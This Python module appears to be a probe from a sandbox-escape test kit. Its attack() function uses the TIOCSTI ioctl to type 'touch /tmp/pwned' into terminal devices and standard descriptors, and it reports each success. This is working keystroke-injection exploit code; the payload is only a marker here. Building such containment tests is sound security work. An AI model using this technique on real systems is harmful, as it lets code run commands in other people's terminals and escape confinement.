import os
import stat
import threading
import time

from . import _kit


def reply_pipes():
    """Return every pipe of this process that can be written, but standard output and error."""
    found = []
    for number in range(3, 4096):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode):
                os.write(number, b"")
                found.append(number)
        except OSError:
            pass
    return found


import fcntl
import signal


@_kit.plan
def attack():
    for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0", "/dev/ptmx"):
        try:
            number = os.open(path, os.O_RDWR | os.O_NOCTTY)
        except OSError as error:
            _kit.say(f"{path}: {error}")
            continue
        try:
            for byte in b"touch /tmp/pwned\n":
                fcntl.ioctl(number, 0x5412, bytes([byte]))
            _kit.win(f"typed into {path}")
        except OSError as error:
            _kit.say(f"TIOCSTI on {path}: {error}")
    for number in range(3):
        try:
            fcntl.ioctl(number, 0x5412, b"x")
            _kit.win(f"typed into descriptor {number}")
        except OSError as error:
            _kit.say(f"TIOCSTI on {number}: {error}")
    signal.raise_signal(signal.SIGTTOU) if False else None
